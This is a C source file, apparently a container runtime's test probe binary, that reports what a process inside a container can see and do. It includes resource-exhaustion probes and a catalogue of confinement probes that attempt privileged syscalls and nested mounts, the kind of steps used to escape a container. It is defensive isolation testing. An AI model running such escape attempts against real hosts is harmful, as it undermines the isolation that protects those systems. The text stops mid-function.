/*
 * guise-testbin: the static multi-call probe that integration tests put in a
 * container's rootfs.  Each subcommand prints what the container sees.
 *
 * Output contract (tests parse it, keep it stable):
 *   - one fact per line; a fact is "KEY VALUE" (single space after the key),
 *     except for `cat`, `mounts`, `env`, `ls`, `echo`, whose output is the raw
 *     content.
 *   - exit 0 when the probe succeeded.
 *   - when the probe itself fails: a line "errno NAME" (e.g. "errno EROFS") on
 *     stdout, a human message on stderr, exit 1.
 *   - usage errors: message on stderr, exit 2.
 *
 * Built with -static so that it runs in a rootfs that holds nothing else.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* ------------------------------------------------------------------ errors */

static const char *errno_name(int e) {
  switch (e) {
#define E(x) case x: return #x;
    E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EIO) E(ENXIO) E(E2BIG) E(ENOEXEC)
    E(EBADF) E(ECHILD) E(EAGAIN) E(ENOMEM) E(EACCES) E(EFAULT) E(ENOTBLK)
    E(EBUSY) E(EEXIST) E(EXDEV) E(ENODEV) E(ENOTDIR) E(EISDIR) E(EINVAL)
    E(ENFILE) E(EMFILE) E(ENOTTY) E(ETXTBSY) E(EFBIG) E(ENOSPC) E(ESPIPE)
    E(EROFS) E(EMLINK) E(EPIPE) E(EDOM) E(ERANGE) E(EDEADLK) E(ENAMETOOLONG)
    E(ENOLCK) E(ENOSYS) E(ENOTEMPTY) E(ELOOP) E(ENODATA)
    E(EOVERFLOW) E(EOPNOTSUPP) /* == ENOTSUP on Linux */ E(ENOTSOCK) E(EADDRINUSE) E(EADDRNOTAVAIL)
    E(ENETDOWN) E(ENETUNREACH) E(ECONNREFUSED) E(ETIMEDOUT) E(EDQUOT)
    E(ENOKEY) E(EKEYREVOKED) E(EPROTONOSUPPORT) E(EAFNOSUPPORT)
#undef E
    default: return NULL;
  }
}

/* Prints the errno line on stdout, the human line on stderr, returns 1. */
static int fail(const char *op, const char *path) {
  int e = errno;
  const char *name = errno_name(e);
  if (name)
    printf("errno %s\n", name);
  else
    printf("errno %d\n", e);
  fflush(stdout);
  fprintf(stderr, "testbin: %s%s%s: %s\n", op, path ? " " : "", path ? path : "",
          strerror(e));
  return 1;
}

static int usage(const char *msg) {
  fprintf(stderr, "testbin: usage: %s\n", msg);
  return 2;
}

static int parse_long(const char *s, long *out) {
  char *end;
  errno = 0;
  long v = strtol(s, &end, 0);
  if (errno || end == s || *end) return -1;
  *out = v;
  return 0;
}

static int parse_seconds(const char *s, double *out) {
  char *end;
  errno = 0;
  double v = strtod(s, &end);
  if (errno || end == s || *end || v < 0) return -1;
  *out = v;
  return 0;
}

/* -------------------------------------------------------------- utilities */

/* Copies an fd to stdout; returns 0 or -1 with errno set. */
static int copy_fd(int fd) {
  char buf[65536];
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0) {
      if (errno == EINTR) continue;
      return -1;
    }
    if (n == 0) return 0;
    if (fwrite(buf, 1, (size_t)n, stdout) != (size_t)n) return -1;
  }
}

static int cat_file(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return fail("open", path);
  int r = copy_fd(fd);
  int saved = errno;
  close(fd);
  if (r < 0) {
    errno = saved;
    return fail("read", path);
  }
  return 0;
}

/* Reads a small file into buf, strips the trailing newline. */
static int read_small(const char *path, char *buf, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, size - 1);
  int saved = errno;
  close(fd);
  if (n < 0) {
    errno = saved;
    return -1;
  }
  buf[n] = '\0';
  while (n > 0 && (buf[n - 1] == '\n' || buf[n - 1] == ' ')) buf[--n] = '\0';
  return 0;
}

static int cmp_str(const void *a, const void *b) {
  return strcmp(*(char *const *)a, *(char *const *)b);
}

/* -------------------------------------------------------------- signals */

static const struct {
  const char *name;
  int num;
} kSignals[] = {
    {"HUP", SIGHUP},   {"INT", SIGINT},   {"QUIT", SIGQUIT}, {"ILL", SIGILL},
    {"TRAP", SIGTRAP}, {"ABRT", SIGABRT}, {"BUS", SIGBUS},   {"FPE", SIGFPE},
    {"KILL", SIGKILL}, {"USR1", SIGUSR1}, {"SEGV", SIGSEGV}, {"USR2", SIGUSR2},
    {"PIPE", SIGPIPE}, {"ALRM", SIGALRM}, {"TERM", SIGTERM}, {"CHLD", SIGCHLD},
    {"CONT", SIGCONT}, {"STOP", SIGSTOP}, {"TSTP", SIGTSTP}, {"TTIN", SIGTTIN},
    {"TTOU", SIGTTOU}, {"URG", SIGURG},   {"XCPU", SIGXCPU}, {"XFSZ", SIGXFSZ},
    {"VTALRM", SIGVTALRM}, {"PROF", SIGPROF}, {"WINCH", SIGWINCH},
    {"IO", SIGIO},     {"PWR", SIGPWR},   {"SYS", SIGSYS},
};

static int parse_signal(const char *s) {
  long n;
  if (parse_long(s, &n) == 0) return (n > 0 && n < NSIG) ? (int)n : -1;
  if (strncasecmp(s, "SIG", 3) == 0) s += 3;
  for (size_t i = 0; i < sizeof kSignals / sizeof kSignals[0]; i++)
    if (strcasecmp(s, kSignals[i].name) == 0) return kSignals[i].num;
  return -1;
}

static const char *signal_name(int sig) {
  for (size_t i = 0; i < sizeof kSignals / sizeof kSignals[0]; i++)
    if (kSignals[i].num == sig) return kSignals[i].name;
  return "?";
}

/* A process that is pid 1 of its namespace ignores every signal it has no
 * handler for, so `kill ID` (SIGTERM) would do nothing to a sleeping probe;
 * the handler makes the signal observable and the exit status 128+sig. */
static void on_signal(int sig) {
  char line[64];
  int n = snprintf(line, sizeof line, "signal SIG%s\n", signal_name(sig));
  if (write(STDOUT_FILENO, line, (size_t)n) < 0) { /* nothing to do */ }
  _exit(128 + sig);
}

static void install_exit_handlers(void) {
  static const int sigs[] = {SIGHUP, SIGINT, SIGTERM, SIGUSR1, SIGUSR2};
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_signal;
  sigemptyset(&sa.sa_mask);
  for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++) sigaction(sigs[i], &sa, NULL);
}

/* ------------------------------------------------------------ subcommands */

static int cmd_pid(int argc, char **argv) {
  (void)argc; (void)argv;
  printf("pid %d\nppid %d\n", (int)getpid(), (int)getppid());
  return 0;
}

static int cmd_hostname(int argc, char **argv) {
  (void)argc; (void)argv;
  struct utsname u;
  if (uname(&u) < 0) return fail("uname", NULL);
  printf("hostname %s\n", u.nodename);
  return 0;
}

static int cmd_domainname(int argc, char **argv) {
  (void)argc; (void)argv;
  struct utsname u;
  if (uname(&u) < 0) return fail("uname", NULL);
  printf("domainname %s\n", u.domainname);
  return 0;
}

static int cmd_id(int argc, char **argv) {
  (void)argc; (void)argv;
  uid_t r, e, s;
  gid_t gr, ge, gs;
  if (getresuid(&r, &e, &s) < 0) return fail("getresuid", NULL);
  if (getresgid(&gr, &ge, &gs) < 0) return fail("getresgid", NULL);
  gid_t groups[NGROUPS_MAX];
  int n = getgroups(NGROUPS_MAX, groups);
  if (n < 0) return fail("getgroups", NULL);
  printf("uid %u\ngid %u\neuid %u\negid %u\nsuid %u\nsgid %u\ngroups", r, gr, e, ge, s, gs);
  for (int i = 0; i < n; i++) printf(" %u", groups[i]);
  printf("\n");
  return 0;
}

/* Prints the named lines of /proc/self/status as "Key value". */
static int print_status_keys(const char *const *keys, size_t nkeys) {
  FILE *f = fopen("/proc/self/status", "re");
  if (!f) return fail("open", "/proc/self/status");
  char line[512];
  while (fgets(line, sizeof line, f)) {
    char *colon = strchr(line, ':');
    if (!colon) continue;
    *colon = '\0';
    for (size_t i = 0; i < nkeys; i++) {
      if (strcmp(line, keys[i]) != 0) continue;
      char *v = colon + 1;
      while (*v == ' ' || *v == '\t') v++;
      v[strcspn(v, "\n")] = '\0';
      printf("%s %s\n", line, v);
    }
  }
  fclose(f);
  return 0;
}

static int cmd_caps(int argc, char **argv) {
  (void)argc; (void)argv;
  static const char *const keys[] = {"CapInh", "CapPrm", "CapEff", "CapBnd",
                                     "CapAmb", "NoNewPrivs", "Seccomp"};
  return print_status_keys(keys, sizeof keys / sizeof keys[0]);
}

static int cmd_cat(int argc, char **argv) {
  if (argc < 1) return usage("cat PATH...");
  for (int i = 0; i < argc; i++) {
    int r = cat_file(argv[i]);
    if (r) return r;
  }
  return 0;
}

static int cmd_write(int argc, char **argv) {
  if (argc != 2) return usage("write PATH TEXT");
  int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return fail("open", argv[0]);
  size_t len = strlen(argv[1]);
  ssize_t n = write(fd, argv[1], len);
  if (n < 0 || (size_t)n != len) {
    if (n >= 0) errno = EIO;
    int saved = errno;
    close(fd);
    errno = saved;
    return fail("write", argv[0]);
  }
  if (close(fd) < 0) return fail("close", argv[0]);
  printf("ok\n");
  return 0;
}

static const char *file_type(mode_t m) {
  switch (m & S_IFMT) {
    case S_IFREG: return "file";
    case S_IFDIR: return "dir";
    case S_IFLNK: return "link";
    case S_IFCHR: return "chr";
    case S_IFBLK: return "blk";
    case S_IFIFO: return "fifo";
    case S_IFSOCK: return "sock";
    default: return "unknown";
  }
}

/* lstat: a symlink is reported as such, with its target; "fd:N" is what fd N is
 * open on (fstat). */
static int cmd_stat(int argc, char **argv) {
  if (argc != 1) return usage("stat PATH|fd:N");
  struct stat st;
  long fd;
  if (!strncmp(argv[0], "fd:", 3) && parse_long(argv[0] + 3, &fd) == 0) {
    if (fstat((int)fd, &st) < 0) return fail("fstat", argv[0]);
  } else if (lstat(argv[0], &st) < 0) {
    return fail("stat", argv[0]);
  }
  printf("type %s\nmode %04o\nuid %u\ngid %u\nrdev %u:%u\nsize %lld\n",
         file_type(st.st_mode), (unsigned)(st.st_mode & 07777), st.st_uid, st.st_gid,
         major(st.st_rdev), minor(st.st_rdev), (long long)st.st_size);
  if (S_ISLNK(st.st_mode)) {
    char target[PATH_MAX];
    ssize_t n = readlink(argv[0], target, sizeof target - 1);
    if (n < 0) return fail("readlink", argv[0]);
    target[n] = '\0';
    printf("target %s\n", target);
  }
  return 0;
}

static int cmd_ls(int argc, char **argv) {
  if (argc != 1) return usage("ls DIR");
  DIR *d = opendir(argv[0]);
  if (!d) return fail("opendir", argv[0]);
  char **names = NULL;
  size_t n = 0, cap = 0;
  struct dirent *de;
  errno = 0;
  while ((de = readdir(d))) {
    if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, "..")) continue;
    if (n == cap) {
      cap = cap ? cap * 2 : 64;
      names = realloc(names, cap * sizeof *names);
      if (!names) return fail("realloc", NULL);
    }
    names[n++] = strdup(de->d_name);
  }
  if (errno) return fail("readdir", argv[0]);
  closedir(d);
  qsort(names, n, sizeof *names, cmp_str);
  for (size_t i = 0; i < n; i++) {
    printf("%s\n", names[i]);
    free(names[i]);
  }
  free(names);
  return 0;
}

static int cmd_mounts(int argc, char **argv) {
  (void)argc; (void)argv;
  return cat_file("/proc/self/mountinfo");
}

static int cmd_ns(int argc, char **argv) {
  (void)argc; (void)argv;
  static const char *const kinds[] = {"cgroup", "ipc",  "mnt",  "net",
                                      "pid",    "time", "user", "uts",
                                      "pid_for_children", "time_for_children"};
  for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
    char path[64], target[128];
    snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i]);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) {
      if (errno == ENOENT) continue; /* kernel without that namespace */
      return fail("readlink", path);
    }
    target[n] = '\0';
    printf("%s %s\n", kinds[i], target);
  }
  return 0;
}

static int cmd_env(int argc, char **argv) {
  (void)argc; (void)argv;
  extern char **environ;
  for (char **e = environ; *e; e++) printf("%s\n", *e);
  return 0;
}

static int cmd_cwd(int argc, char **argv) {
  (void)argc; (void)argv;
  char buf[PATH_MAX];
  if (!getcwd(buf, sizeof buf)) return fail("getcwd", NULL);
  printf("cwd %s\n", buf);
  return 0;
}

static int cmd_umask(int argc, char **argv) {
  (void)argc; (void)argv;
  mode_t m = umask(0);
  umask(m);
  printf("umask %04o\n", (unsigned)m);
  return 0;
}

static const struct {
  const char *name;
  int res;
} kRlimits[] = {
    {"CPU", RLIMIT_CPU},         {"FSIZE", RLIMIT_FSIZE},   {"DATA", RLIMIT_DATA},
    {"STACK", RLIMIT_STACK},     {"CORE", RLIMIT_CORE},     {"RSS", RLIMIT_RSS},
    {"NPROC", RLIMIT_NPROC},     {"NOFILE", RLIMIT_NOFILE}, {"MEMLOCK", RLIMIT_MEMLOCK},
    {"AS", RLIMIT_AS},           {"LOCKS", RLIMIT_LOCKS},   {"SIGPENDING", RLIMIT_SIGPENDING},
    {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},   {"RTPRIO", RLIMIT_RTPRIO},
    {"RTTIME", RLIMIT_RTTIME},
};

static void print_rlim(rlim_t v) {
  if (v == RLIM_INFINITY)
    printf("unlimited");
  else
    printf("%llu", (unsigned long long)v);
}

/* Accepts RLIMIT_NOFILE, NOFILE or nofile; prints "SOFT HARD". */
static int cmd_rlimit(int argc, char **argv) {
  if (argc != 1) return usage("rlimit NAME");
  const char *name = argv[0];
  if (strncasecmp(name, "RLIMIT_", 7) == 0) name += 7;
  for (size_t i = 0; i < sizeof kRlimits / sizeof kRlimits[0]; i++) {
    if (strcasecmp(name, kRlimits[i].name) != 0) continue;
    struct rlimit rl;
    if (getrlimit(kRlimits[i].res, &rl) < 0) return fail("getrlimit", argv[0]);
    print_rlim(rl.rlim_cur);
    printf(" ");
    print_rlim(rl.rlim_max);
    printf("\n");
    return 0;
  }
  return usage("rlimit NAME: unknown resource");
}

/* Lists open fds as "N TARGET", leaving out the fd used to read the list. */
static int cmd_fds(int argc, char **argv) {
  (void)argc; (void)argv;
  DIR *d = opendir("/proc/self/fd");
  if (!d) return fail("opendir", "/proc/self/fd");
  int self = dirfd(d);
  long fds[4096];
  size_t n = 0;
  struct dirent *de;
  while ((de = readdir(d)) && n < sizeof fds / sizeof fds[0]) {
    long fd;
    if (parse_long(de->d_name, &fd) < 0 || fd == self) continue;
    fds[n++] = fd;
  }
  for (size_t i = 1; i < n; i++) /* insertion sort: the list is short */
    for (size_t j = i; j > 0 && fds[j - 1] > fds[j]; j--) {
      long t = fds[j]; fds[j] = fds[j - 1]; fds[j - 1] = t;
    }
  for (size_t i = 0; i < n; i++) {
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/self/fd/%ld", fds[i]);
    ssize_t len = readlink(path, target, sizeof target - 1);
    if (len < 0) strcpy(target, "?");
    else target[len] = '\0';
    printf("%ld %s\n", fds[i], target);
  }
  closedir(d);
  return 0;
}

static void sleep_for(double seconds) {
  struct timespec ts = {(time_t)seconds, (long)((seconds - (double)(time_t)seconds) * 1e9)};
  while (nanosleep(&ts, &ts) < 0 && errno == EINTR) {}
}

static int cmd_sleep(int argc, char **argv) {
  double s;
  if (argc != 1 || parse_seconds(argv[0], &s) < 0) return usage("sleep SECONDS");
  install_exit_handlers();
  sleep_for(s);
  printf("slept %s\n", argv[0]);
  return 0;
}

static double now_seconds(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmd_spin(int argc, char **argv) {
  double s;
  if (argc != 1 || parse_seconds(argv[0], &s) < 0) return usage("spin SECONDS");
  install_exit_handlers();
  double end = now_seconds() + s;
  volatile unsigned long counter = 0;
  while (now_seconds() < end)
    for (int i = 0; i < 100000; i++) counter++;
  printf("spun %s\n", argv[0]);
  return 0;
}

/* Allocates MIB mebibytes, one at a time, each page touched so it is charged to the
 * cgroup; prints "held N" as it goes.  Under a smaller memory limit the OOM killer ends
 * it; with the memory it exits 0. */
static int cmd_memhog(int argc, char **argv) {
  long mib;
  if (argc != 1 || parse_long(argv[0], &mib) < 0 || mib < 0) return usage("memhog MIB");
  for (long i = 0; i < mib; i++) {
    char *p = malloc(1 << 20);
    if (!p) {
      printf("errno ENOMEM\n");
      return 1;
    }
    for (long off = 0; off < (1 << 20); off += 4096) p[off] = (char)(off | 1);
    if ((i + 1) % 16 == 0) printf("held %ld\n", i + 1);
  }
  printf("held %ld\n", mib);
  return 0;
}

static int cmd_exit(int argc, char **argv) {
  long code;
  if (argc != 1 || parse_long(argv[0], &code) < 0) return usage("exit CODE");
  fflush(stdout);
  _exit((int)(code & 0xff));
}

/* Dies of SIGNAL.  pid 1 of a pid namespace cannot kill itself that way (the
 * kernel drops signals init sends itself), which is reported as a failure. */
static int cmd_kill_self(int argc, char **argv) {
  int sig = argc == 1 ? parse_signal(argv[0]) : -1;
  if (sig < 0) return usage("kill-self SIGNAL");
  fflush(stdout);
  signal(sig, SIG_DFL);
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, sig);
  sigprocmask(SIG_UNBLOCK, &set, NULL);
  if (kill(getpid(), sig) < 0) return fail("kill", NULL);
  sleep_for(0.2);
  fprintf(stderr, "testbin: kill-self: still alive after SIG%s (pid %d)\n", signal_name(sig),
          (int)getpid());
  printf("alive\n");
  return 1;
}

static int cmd_oom_score_adj(int argc, char **argv) {
  (void)argc; (void)argv;
  char buf[64];
  if (read_small("/proc/self/oom_score_adj", buf, sizeof buf) < 0)
    return fail("read", "/proc/self/oom_score_adj");
  printf("oom-score-adj %s\n", buf);
  return 0;
}

/* net.ipv4.ip_forward -> /proc/sys/net/ipv4/ip_forward; prints the raw value. */
static int cmd_sysctl(int argc, char **argv) {
  if (argc != 1) return usage("sysctl NAME");
  char path[PATH_MAX];
  int n = snprintf(path, sizeof path, "/proc/sys/%s", argv[0]);
  if (n < 0 || (size_t)n >= sizeof path) return usage("sysctl NAME: too long");
  for (char *p = path + strlen("/proc/sys/"); *p; p++)
    if (*p == '.') *p = '/';
  char buf[4096];
  if (read_small(path, buf, sizeof buf) < 0) return fail("read", path);
  for (char *p = buf; *p; p++)
    if (*p == '\t' || *p == '\n') *p = ' ';
  printf("%s %s\n", argv[0], buf);
  return 0;
}

static int cmd_personality(int argc, char **argv) {
  (void)argc; (void)argv;
  int p = personality(0xffffffff);
  if (p < 0) return fail("personality", NULL);
  struct utsname u;
  if (uname(&u) < 0) return fail("uname", NULL);
  const char *domain = (p & PER_MASK) == PER_LINUX32 ? "LINUX32"
                       : (p & PER_MASK) == PER_LINUX ? "LINUX" : "OTHER";
  printf("personality 0x%x\ndomain %s\nmachine %s\n", (unsigned)p, domain, u.machine);
  return 0;
}

static int cmd_tty(int argc, char **argv) {
  (void)argc; (void)argv;
  for (int fd = 0; fd <= 2; fd++) {
    if (isatty(fd)) {
      char name[PATH_MAX];
      if (ttyname_r(fd, name, sizeof name) != 0) strcpy(name, "?");
      printf("fd%d tty %s\n", fd, name);
    } else {
      printf("fd%d notty\n", fd);
    }
  }
  return 0;
}

/* Forks N children that wait for the parent's word; counts how many forks
 * succeeded, names the first failure, then releases and reaps them all. */
static int cmd_fork_many(int argc, char **argv) {
  long want;
  if (argc != 1 || parse_long(argv[0], &want) < 0 || want < 0) return usage("fork-many N");
  int gate[2];
  if (pipe2(gate, O_CLOEXEC) < 0) return fail("pipe", NULL);
  long ok = 0;
  int first_errno = 0;
  for (long i = 0; i < want; i++) {
    pid_t p = fork();
    if (p < 0) {
      first_errno = errno;
      break;
    }
    if (p == 0) {
      char c;
      close(gate[1]);
      while (read(gate[0], &c, 1) < 0 && errno == EINTR) {}
      _exit(0);
    }
    ok++;
  }
  close(gate[1]); /* EOF releases every child */
  close(gate[0]);
  while (wait(NULL) > 0 || errno == EINTR) {}
  const char *name = first_errno ? errno_name(first_errno) : "none";
  printf("forked %ld\nerrno %s\n", ok, name ? name : "?");
  return 0;
}

/* FLAGS: comma-separated r,w,rw,creat,excl,trunc,append,directory,nofollow,path */
static int cmd_open(int argc, char **argv) {
  if (argc != 2) return usage("open PATH FLAGS");
  static const struct {
    const char *name;
    int flag;
  } kFlags[] = {{"r", O_RDONLY},        {"w", O_WRONLY},      {"rw", O_RDWR},
                {"creat", O_CREAT},     {"excl", O_EXCL},     {"trunc", O_TRUNC},
                {"append", O_APPEND},   {"directory", O_DIRECTORY},
                {"nofollow", O_NOFOLLOW}, {"path", O_PATH},   {"noctty", O_NOCTTY}};
  int flags = O_CLOEXEC;
  char *spec = strdup(argv[1]), *save = NULL;
  for (char *tok = strtok_r(spec, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
    size_t i;
    for (i = 0; i < sizeof kFlags / sizeof kFlags[0]; i++)
      if (!strcmp(tok, kFlags[i].name)) break;
    if (i == sizeof kFlags / sizeof kFlags[0]) return usage("open PATH FLAGS: unknown flag");
    flags |= kFlags[i].flag;
  }
  free(spec);
  int fd = open(argv[0], flags, 0644);
  if (fd < 0) return fail("open", argv[0]);
  close(fd);
  printf("ok\n");
  return 0;
}

/* Tries to create /dev/null's twin (c 1:3) at PATH (default /tmp/testbin-null),
 * then to open it: mknod needs CAP_MKNOD, the open needs the devices cgroup. */
static int cmd_mknod_test(int argc, char **argv) {
  const char *path = argc >= 1 ? argv[0] : "/tmp/testbin-null";
  unlink(path);
  if (mknod(path, S_IFCHR | 0666, makedev(1, 3)) < 0) {
    const char *name = errno_name(errno);
    printf("mknod %s\n", name ? name : "?");
    return 0;
  }
  printf("mknod ok\n");
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    const char *name = errno_name(errno);
    printf("open %s\n", name ? name : "?");
  } else {
    printf("open ok\n");
    close(fd);
  }
  unlink(path);
  return 0;
}

static int cmd_echo(int argc, char **argv) {
  for (int i = 0; i < argc; i++) printf("%s%s", i ? " " : "", argv[i]);
  printf("\n");
  return 0;
}

/* udp-echo PORT: answers each datagram with "echo:" and the datagram, forever (for
 * published UDP ports: the answer proves the way back through the NAT too). */
static int cmd_udp_echo(int argc, char **argv) {
  if (argc < 1) return 2;
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)atoi(argv[0]));
  if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) < 0) {
    printf("udp-echo bind failed: %s\n", strerror(errno));
    return 1;
  }
  printf("udp-echo listening\n");
  for (;;) {
    char buf[1500];
    struct sockaddr_in from;
    socklen_t len = sizeof from;
    ssize_t n = recvfrom(fd, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
    if (n < 0) continue;
    memcpy(buf, "echo:", 5);
    sendto(fd, buf, (size_t)n + 5, 0, (struct sockaddr *)&from, len);
  }
}


/* ------------------------------------------------------- confinement probes */

static void print_result(const char *name, long rc, int err) {
  if (rc >= 0) {
    printf("%s ok\n", name);
    return;
  }
  const char *e = errno_name(err);
  if (e)
    printf("%s %s\n", name, e);
  else
    printf("%s %d\n", name, err);
}

/* Each NAME is one syscall a confined process should (or should not) be able to
 * make; prints "NAME ok" or "NAME ERRNO".  Arguments are chosen so that a call
 * that gets through changes nothing (bad magic, empty images, fds that are not
 * there), and a process made by one (clone) exits at once.  "nr:N" is syscall
 * number N with zero arguments (one the kernel lacks answers ENOSYS if let through). */
static long try_syscall(const char *name, int *err) {
  long rc = -1, nr;
  errno = 0;
  if (!strcmp(name, "getpid")) rc = syscall(SYS_getpid);
  else if (!strcmp(name, "keyctl")) rc = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
  else if (!strcmp(name, "add_key")) rc = syscall(SYS_add_key, "user", "guise-probe", "x", 1, -3);
  else if (!strcmp(name, "request_key")) rc = syscall(SYS_request_key, "user", "guise-probe", NULL, 0);
  else if (!strcmp(name, "unshare-user")) rc = unshare(CLONE_NEWUSER);
  else if (!strcmp(name, "unshare-mnt")) rc = unshare(CLONE_NEWNS);
  else if (!strcmp(name, "clone-user")) {
    rc = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (rc == 0) _exit(0);
    if (rc > 0) waitpid((pid_t)rc, NULL, 0);
  } else if (!strcmp(name, "mount")) rc = mount("none", "/tmp", "tmpfs", 0, NULL);
  else if (!strcmp(name, "init_module")) rc = syscall(SYS_init_module, "", 0, "");
  else if (!strcmp(name, "finit_module")) rc = syscall(SYS_finit_module, -1, "", 0);
  else if (!strcmp(name, "delete_module")) rc = syscall(SYS_delete_module, "guise_no_such_module", O_NONBLOCK);
  else if (!strcmp(name, "reboot")) rc = syscall(SYS_reboot, 0, 0, 0, NULL); /* bad magic: EINVAL if let through */
  else if (!strcmp(name, "kexec_load")) rc = syscall(SYS_kexec_load, 0, 0, NULL, 0);
  else if (!strcmp(name, "swapon")) rc = syscall(SYS_swapon, "/guise-no-such-swap", 0);
  else if (!strcmp(name, "bpf")) rc = syscall(SYS_bpf, 5 /* PROG_LOAD */, NULL, 0);
  else if (!strcmp(name, "perf_event_open")) rc = syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
  else if (!strcmp(name, "userfaultfd")) rc = syscall(SYS_userfaultfd, O_CLOEXEC);
  else if (!strcmp(name, "open_by_handle_at")) rc = syscall(SYS_open_by_handle_at, -1, NULL, 0);
  else if (!strcmp(name, "setns")) rc = syscall(SYS_setns, -1, 0);
  else if (!strcmp(name, "pivot_root")) rc = syscall(SYS_pivot_root, "/guise-none", "/guise-none");
  else if (!strcmp(name, "acct")) rc = syscall(SYS_acct, NULL);
  else if (!strcmp(name, "settimeofday")) rc = syscall(SYS_settimeofday, NULL, NULL);
  else if (!strcmp(name, "iopl")) rc = syscall(SYS_iopl, 0);
  else if (!strcmp(name, "ioperm")) rc = syscall(SYS_ioperm, 0, 0, 0);
  else if (!strcmp(name, "personality-query")) rc = personality(0xffffffff);
  else if (!strcmp(name, "personality-bad")) rc = syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */);
  else if (!strcmp(name, "socket-vsock")) {
    rc = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
    if (rc >= 0) close((int)rc);
  } else if (!strcmp(name, "chroot")) rc = chroot("/");
  else if (!strncmp(name, "nr:", 3) && parse_long(name + 3, &nr) == 0) rc = syscall(nr, 0, 0, 0, 0, 0, 0);
  else {
    errno = EINVAL;
    *err = -1;
    return -2;
  }
  *err = errno;
  return rc;
}

static int cmd_syscall(int argc, char **argv) {
  if (argc < 1) return usage("syscall NAME...");
  for (int i = 0; i < argc; i++) {
    int err = 0;
    long rc = try_syscall(argv[i], &err);
    if (rc == -2 && err == -1) return usage("syscall NAME: unknown name");
    print_result(argv[i], rc, err);
  }
  return 0;
}

/* kill PID SIGNAL: "kill ok" or "kill ESRCH". */
static int cmd_kill(int argc, char **argv) {
  long pid;
  int sig = argc == 2 ? parse_signal(argv[1]) : -1;
  if (argc == 2 && !strcmp(argv[1], "0")) sig = 0;
  if (argc != 2 || parse_long(argv[0], &pid) < 0 || sig < 0) return usage("kill PID SIGNAL");
  long rc = kill((pid_t)pid, sig);
  print_result("kill", rc, errno);
  return 0;
}

static int cmd_mkdir(int argc, char **argv) {
  if (argc != 1) return usage("mkdir PATH");
  long rc = mkdir(argv[0], 0755);
  print_result("mkdir", rc, errno);
  return 0;
}

static void write_quietly(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) < 0) { /* the mount below says what it costs */ }
  close(fd);
}

/* nested-mount FSTYPE...: what any process in the container may try, to see more of
 * the host than the runtime showed it. In a new user namespace (with mount, pid and
 * network namespaces it owns), mounts a fresh instance of each FSTYPE on /tmp.
 * Prints "unshare ok|ERRNO", then "FSTYPE ok|ERRNO" for each. */
static int cmd_nested_mount(int argc, char **argv) {
  if (argc < 1) return usage("nested-mount FSTYPE...");
  uid_t uid = geteuid();
  gid_t gid = getegid();
  long rc = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET);
  print_result("unshare", rc, errno);
  if (rc < 0) return 1;
  char map[64];
  write_quietly("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
  write_quietly("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
  write_quietly("/proc/self/gid_map", map);
  fflush(stdout);
  pid_t pid = fork(); /* the first process of the new pid namespace, which procfs shows */
  if (pid < 0) return fail("fork", NULL);
  if (pid == 0) {
    for (int i = 0; i < argc; i++) {
      long m = mount(argv[i], "/tmp", argv[i], MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
      print_result(argv[i], m, errno);
      if (m == 0) umount2("/tmp", MNT_DETACH);
    }
    fflush(stdout);
    _exit(0);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int cmd_statfs(int argc, char **argv) {
  if (argc != 1) return usage("statfs PATH");
  struct statfs fs;
  if (statfs(argv[0], &fs) < 0) return fail("statfs", argv[0]);
  printf("fstype 0x%lx\nreadonly %d\n", (unsigned long)fs.f_type, (fs.f_flags & ST_RDONLY) ? 1 : 0);
  return 0;
}

/* The session keyring this process has: its serial and description. */
static int cmd_keyring(int argc, char **argv) {
